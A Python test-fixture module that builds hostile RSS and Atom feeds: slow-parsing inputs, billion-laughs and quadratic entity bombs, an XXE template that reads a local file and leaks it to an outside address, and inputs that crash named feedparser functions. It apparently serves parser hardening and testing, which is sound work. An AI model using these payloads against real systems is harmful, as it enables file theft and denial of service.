"""Feeds that hurt whoever parses them: slow ones, growing ones, ones that make feedparser raise."""

from __future__ import annotations

from xml.sax.saxutils import escape

MEGABYTE = 1_000_000
SECRET = "the-word-that-only-the-file-holds"
_NAMES = {
    "georss": "http://www.georss.org/georss",
    "gml": "http://www.opengis.net/gml",
    "media": "http://search.yahoo.com/mrss/",
    "psc": "http://podlove.org/simple-chapters",
    "cc": "http://web.resource.org/cc/",
    "creativeCommons": "http://backend.userland.com/creativeCommonsRssModule",
    "itunes": "http://www.itunes.com/DTDs/PodCast-1.0.dtd",
    "content": "http://purl.org/rss/1.0/modules/content/",
}
_PREFIXES = " ".join(f'xmlns:{prefix}="{name}"' for prefix, name in _NAMES.items())


def rss(*items: str, channel: str = "", before: str = "") -> bytes:
    """A feed with an item for each text."""
    entries = "".join(f"<item>{item}</item>" for item in items)
    return f'{before}<rss version="2.0" {_PREFIXES}><channel>{channel}{entries}</channel></rss>'.encode()


def atom(*entries: str) -> bytes:
    """An Atom feed with an entry for each text."""
    inner = "".join(f"<entry>{entry}</entry>" for entry in entries)
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><title>F</title>{inner}</feed>'.encode()


def markup(html: str) -> str:
    """An item with a text that is HTML."""
    return f"<title>T</title><description>{escape(html)}</description>"


_ATTRIBUTES = " ".join(f"a{number}='x'" for number in range(100_000))
_ADDRESS = "a@" + "a." * 32_000

SLOW = {
    "100,000 attributes on an item": rss("<title>T</title>").replace(b"<item>", f"<item {_ATTRIBUTES}>".encode()),
    "100,000 attributes in a text": rss(markup(f"<a {_ATTRIBUTES}>x</a>")),
    "100,000 attributes in an Atom text": atom(
        f'<title>T</title><id>1</id><content type="xhtml"><p {_ATTRIBUTES}>x</p></content>'
    ),
    "a style of blanks": rss(markup(f'<p style="a{" " * 80_000}">x</p>')),
    "a style of addresses": rss(markup(f'<p style="{"url(a" * 20_000}">x</p>')),
    "an author without end": rss(f"<title>T</title><author>{_ADDRESS}</author>"),
    "an Atom author without end": atom(f"<title>T</title><id>1</id><author>{_ADDRESS}</author>"),
    "560 KB of open comments": rss(markup("<!--" * 140_000)),
    "560 KB of open comments, not escaped": rss("<title>T</title><description>" + "<!--" * 140_000),
    "120 KB of open tags": rss(markup("<a <a " * 20_000)),
    "120 KB of open tags, not escaped": rss("<title>T</title>" + "<a <a " * 20_000),
    "a MB of nested divisions": rss(markup("<div>" * 200_000)),
    "a MB of nested divisions, not escaped": rss("<title>T</title><description>" + "<div>" * 200_000),
    "a MB of nested divisions in XHTML": atom(
        f'<title>T</title><id>1</id><content type="xhtml">{"<div>" * 90_000}{"</div>" * 90_000}</content>'
    ),
    "360 KB of character data": rss(markup("<![CDATA[" * 40_000)),
    "360 KB of character data, not escaped": rss("<title>T</title><description>" + "<![CDATA[" * 40_000),
}  # fmt: skip # a table


def outside(address: str, file: str) -> str:
    """A document type with every way to bring something in from outside (CWE-611)."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{address}/x.dtd" [<!ENTITY file SYSTEM "{file}">'
        f'<!ENTITY net SYSTEM "{address}/net"><!ENTITY % all SYSTEM "{address}/all">%all;'
        f'<!ENTITY % inner SYSTEM "{file}"><!ENTITY % eval "<!ENTITY leak SYSTEM \'{address}/?%inner;\'>">%eval;]>'
    )


def laughs(levels: int = 9) -> str:
    """A document type whose `&lol9;` stands for a billion words (CWE-776)."""
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{entities}]>'


GROWING = {
    "a billion laughs": rss("<title>T &lol9;</title>", before=laughs()),
    "a billion laughs in Atom": laughs().encode() + atom("<title>T &lol9;</title><id>1</id>"),
    "quadratic blow-up": rss(
        f"<title>T {'&a;' * 20_000}</title>", before=f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>'
    ),
    "7 KB that are a title of 1 MB": rss(
        f"<title>T {'&a;' * 1000}</title>", before=f'<!DOCTYPE rss [<!ENTITY a "{"a" * 1000}">]>'
    ),
    "an entity of itself": rss("<title>T &a;</title>", before='<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "parameters of parameters": rss(
        "<title>T</title>",
        before='<!DOCTYPE rss [<!ENTITY % a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY % {chr(98 + n)} "{f"%{chr(97 + n)};" * 10}">' for n in range(9)
        ) + "%j;]>",
    ),
    "a title of 1 MB": rss(f"<title>T {'a' * MEGABYTE}</title>"),
    "a guid and a link of 1 MB": rss(
        f"<title>T</title><guid>{'g' * MEGABYTE}</guid><link>https://one.example/{'l' * MEGABYTE}</link>"
    ),
    "5,000 items": rss(*["<title>T</title>"] * 5000),
}  # fmt: skip # a table


def _line(markup: str) -> bytes:
    return rss(f"<title>One</title><guid>1</guid>{markup}", "<title>Two</title><guid>2</guid>")


def _loose(element: str) -> bytes:
    """An element that begins in an item and ends after it, as only a parser without order allows."""
    items = f"<item><title>One</title><{element}></item>x</{element}><item><title>Two</title></item>"
    return f'<rss version="2.0" {_PREFIXES}><channel>{items}</channel></rss>'.encode()


# Each place of feedparser 6.0.14 that raises on a feed, found by reading it: file, function, what it does there.
CRASHES = {
    "datetimes/perforce.py _parse_date_perforce, months[...]": _line("<pubDate>Fri, 2006/99/15 08:19:53 EDT</pubDate>"),
    "encodings.py convert_to_utf8, decode of the declaration": b'<?xml version="1.0" encoding="\xff"?>' + _line(""),
    "encodings.py convert_to_utf8, a NUL in the name": b'<?xml version="1.0" encoding="\0"?>' + _line(""),
    "encodings.py convert_to_utf8, a codec that raises": b'<?xml version="1.0" encoding="punycode"?>' + _line(""),
    "encodings.py convert_to_utf8, a codec that is none": b'<?xml version="1.0" encoding="undefined"?>' + _line(""),
    "mixin.py handle_charref, int() of 5,000 digits": _line(f"<description>&#{'9' * 5000};</description>"),
    "mixin.py handle_charref, chr() of a huge number": _line("<description>&#99999999999;</description>"),
    "mixin.py handle_charref, chr() beyond Unicode": _line("<description>&#x110000;</description>"),
    "mixin.py handle_charref, encode() of a surrogate": _line("<description>&#xD800;</description>"),
    "mixin.py _save_author, a detail that is text": _line(
        "<author_detail>x</author_detail><author><email>a@b.example</email><name>n</name></author>"
    ),
    "mixin.py _save_author, a publisher that is text": _line(
        "<publisher_detail>x</publisher_detail><itunes:owner><itunes:email>a@b.example</itunes:email></itunes:owner>"
    ),
    "mixin.py _save_contributor, contributors that are text": _line(
        "<contributors>x</contributors><contributor><name>n</name></contributor>"
    ),
    "mixin.py _save_contributor, contributors with attributes": _line(
        '<contributors x="y"/><contributor><email>n</email></contributor>'
    ),
    "mixin.py _sync_author_detail, authors with attributes": _line(
        '<authors a="b"/><author><email>a@b.example</email></author>'
    ),
    "namespaces/_base.py _end_width, int() of nothing": _line("<image><width>1<b>2</width></image>"),
    "namespaces/_base.py _end_height, int() of nothing": _line("<image><height>1<b>2</height></image>"),
    "namespaces/_base.py _end_generator, a detail that is text": _line(
        "<generator>x<generator_detail>y</generator_detail></generator>"
    ),
    "namespaces/_base.py _end_name, no such context": _line("<textInput><name>x</name></textInput>"),
    "namespaces/_base.py _end_category, tags of another context": (
        b"<rss version='2.0'><channel><item><title>One</title><category></item><item><title>Two</title></item>x</category>"
    ),
    "namespaces/cc.py _end_creativecommons_license, del": _line("<creativeCommons:license>a<b>c</creativeCommons:license>"),
    "namespaces/georss.py _save_where, no where": _line("<gml:pos>1 2</gml:pos>"),
    "namespaces/georss.py _end_gml_pos, int()": _line(
        '<georss:where><gml:Point srsName="EPSG:x"><gml:pos>1 2</gml:pos></gml:Point></georss:where>'
    ),
    "namespaces/georss.py _end_gml_poslist, int()": _line(
        '<georss:where><gml:LineString srsName="EPSG:"><gml:posList>1 2 3 4</gml:posList></gml:LineString></georss:where>'
    ),
    "namespaces/georss.py _end_gml_poslist, no where": _line("<gml:posList>1 2</gml:posList>"),
    "namespaces/georss.py _parse_poslist, a ring of nothing": _line(
        "<georss:where><gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>x y</gml:posList></gml:LinearRing>"
        "</gml:exterior></gml:Polygon></georss:where>"
    ),
    "namespaces/mediarss.py _end_media_credit, of another context": _loose("media:credit"),
    "namespaces/mediarss.py _end_media_rating, of another context": _loose("media:rating"),
    "namespaces/mediarss.py _end_media_restriction, of another context": _loose("media:restriction"),
    "namespaces/mediarss.py _end_media_license, of another context": _loose("media:license"),
    "namespaces/mediarss.py _end_media_thumbnail, of another context": _loose("media:thumbnail"),
    "namespaces/mediarss.py _end_media_player, of another context": _loose("media:player"),
    "namespaces/psc.py _start_psc_chapter, no start": _line('<psc:chapters version="1.2"><psc:chapter title="x"/></psc:chapters>'),
    "namespaces/psc.py _start_psc_chapter, chapters of another context": rss(
        "<title>One</title><psc:chapter start='00:01'/>", "<title>Two</title>", channel="<psc:chapters version='1'>"
    ),
    "parsers/strict.py startElementNS, a namespace with a blank": rss(
        "<title>One</title><x:y xmlns:x='urn:a b'>z</x:y>", "<title>Two</title>"
    ),
    "ours: a detail that is text": _line("<title_detail>x</title_detail><content>y</content>"),
    "ours: links that are text": _line("<links>x</links>").replace(b"<guid>", b'<guid isPermaLink="false">'),
    "ours: links with attributes": _line("<links a='b'/>").replace(b"<guid>", b'<guid isPermaLink="false">'),
    "ours: an element that has the name of a detail": _line('<title_detail a="b"/><content_detail>y</content_detail>'),
    "ours: a base that is no address": _line('<x xml:base="http://["/>').replace(b"<title>", b'<title xml:base="http://[">'),
}  # fmt: skip # a table
